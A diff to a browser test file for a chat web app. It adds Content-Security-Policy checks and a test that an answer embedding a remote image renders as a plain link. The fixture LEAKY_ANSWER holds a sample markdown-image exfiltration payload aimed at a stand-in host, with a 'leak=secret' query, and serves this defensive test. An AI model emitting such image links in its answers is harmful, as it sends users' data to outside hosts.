@@ -1,5 +1,7 @@
 """The chat page in a real browser (Debian's Chromium driven by Playwright): sign in,
-send, watch the answer stream in, stop, regenerate. Screenshots go to .var/screenshots/.
+send, watch the answer stream in, stop, regenerate; every page runs under the
+Content-Security-Policy, and an answer loads no remote resource. Screenshots go to
+.var/screenshots/.
 
 Skipped where Chromium is not installed (`make test` installs it when run as root).
 """
@@ -8,6 +10,7 @@ from __future__ import annotations
 
 import re
 import shutil
+from dataclasses import dataclass, field
 
 import pytest
 
@@ -22,18 +25,40 @@ pytestmark = [
 ]
 SHOTS = ROOT / ".var" / "screenshots"
 ANSWER = "Here is **bold** text and `code`. "
+LEAK_HOST = "127.0.0.2"
+LEAKY_ANSWER = f"See ![x](http://{LEAK_HOST}:9/p.png?leak=secret) here. "
+
+
+@dataclass
+class BrowserLog:
+    """What the browser did: every request's URL and the console's CSP violations."""
+
+    requests: list[str] = field(default_factory=list)
+    csp_violations: list[str] = field(default_factory=list)
 
 
 @pytest.fixture
-def site(user):
+def script_text():
+    """The scripted engine's answer (repeated up to CHAT_MAX_TOKENS); a test may
+    parametrize it."""
+    return ANSWER
+
+
+@pytest.fixture
+def site(user, script_text):
     args = ["--pool", "default", "--engine", "scripted", "--delay-ms", "40"]
-    args += ["--script-text", ANSWER, "--cycle"]
+    args += ["--script-text", script_text, "--cycle"]
     with running_stack(args, env={"CHAT_MAX_TOKENS": "40"}) as base:
         yield base
 
 
 @pytest.fixture
-def page(site, monkeypatch):
+def browser_log():
+    return BrowserLog()
+
+
+@pytest.fixture
+def page(site, browser_log, monkeypatch):
     from playwright.sync_api import sync_playwright
 
     # Playwright's sync API runs an event loop in this thread; the ORM calls of the
@@ -52,6 +77,15 @@ def page(site, monkeypatch):
         )
         page = browser.new_page()
         page.set_default_timeout(20_000)
+        page.context.on("request", lambda r: browser_log.requests.append(r.url))
+        page.on(
+            "console",
+            lambda m: (
+                browser_log.csp_violations.append(f"{page.url}: {m.text}")
+                if "Content Security Policy" in m.text
+                else None
+            ),
+        )
         page.goto(site + "/")
         page.fill("input[name=username]", "alice")
         page.fill("input[name=password]", "pw-alice-123")
@@ -148,3 +182,65 @@ def test_a_repeated_question_is_marked_as_a_cached_answer(page, site, user):
     assert last_answer(page).locator(".msg-cache").inner_text() == "cached answer"
     cached = Message.objects.filter(role="assistant").order_by("created_at").last()
     assert cached.cache_kind == "exact" and cached.content.startswith(ANSWER)
+
+
+@pytest.mark.parametrize("script_text", [LEAKY_ANSWER])
+def test_an_answer_with_a_remote_image_makes_no_request_to_its_host(
+    page, site, browser_log
+):
+    """DESIGN §10: ``![x](http://127.0.0.2:9/p.png?leak=secret)`` in an answer is a
+    link, not an image: the browser sends nothing to 127.0.0.2 (streamed, then
+    reloaded), and the policy had nothing to block."""
+    page.fill("#content", "Show me the picture")
+    page.keyboard.press("Enter")
+    page.wait_for_selector("article.msg-assistant.status-complete")
+    page.reload()
+    page.wait_for_selector("article.msg-assistant.status-complete")
+    body = last_answer(page).locator(".msg-body")
+    assert body.locator("img").count() == 0
+    link = body.locator(f'a[href^="http://{LEAK_HOST}:9/"]').first
+    assert link.get_attribute("href") == f"http://{LEAK_HOST}:9/p.png?leak=secret"
+    assert link.inner_text() == "x"
+    assert link.get_attribute("rel") == "noopener noreferrer nofollow"
+    page.screenshot(path=str(SHOTS / "chat-remote-image-as-link.png"), full_page=True)
+    assert browser_log.requests  # the listener works: the page's own requests
+    assert not [url for url in browser_log.requests if LEAK_HOST in url]
+    assert browser_log.csp_violations == [], "\n".join(browser_log.csp_violations)
+
+
+def test_the_pages_and_the_admin_work_under_the_policy(page, site, user, browser_log):
+    """Every page loads, and its scripts run, with no CSP violation: the chat's
+    stream, the account pages and the admin (its JavaScript: select all rows)."""
+    page.fill("#content", "Hello")
+    page.keyboard.press("Enter")
+    page.wait_for_selector("article.msg-assistant.status-complete")
+    for path in ["/settings/", "/memory/", "/documents/"]:
+        assert page.goto(site + path).status == 200, path
+    user.is_staff = user.is_superuser = True
+    user.save()
+    message = Message.objects.filter(role="assistant").get()
+    admin_pages = [
+        "/admin/",
+        "/admin/conversations/message/",
+        f"/admin/conversations/message/{message.id}/change/",
+        "/admin/auth/user/add/",
+        f"/admin/auth/user/{user.id}/change/",
+        f"/admin/conversations/conversation/{message.conversation_id}/change/",
+        "/admin/gateway/usagerecord/",
+        "/admin/gateway/usagerecord/report/",
+        "/admin/gateway/modelpool/",
+        "/admin/gateway/subscription/add/",
+        "/admin/gateway/plan/add/",
+    ]
+    for path in admin_pages:
+        assert page.goto(site + path).status == 200, path
+    page.wait_for_selector("#id_allowed_pools_from")  # SelectFilter2.js built it
+    page.goto(site + "/admin/conversations/message/")
+    page.check("#action-toggle")  # admin/js/actions.js checks every row
+    assert page.locator("input.action-select:checked").count() == 2
+    page.screenshot(path=str(SHOTS / "admin-under-csp.png"), full_page=True)
+    page.goto(site + "/login/")  # signed-out pages too: log out first
+    page.context.clear_cookies()
+    for path in ["/login/", "/signup/", "/admin/login/"]:
+        assert page.goto(site + path).status == 200, path
+    assert browser_log.csp_violations == [], "\n".join(browser_log.csp_violations)
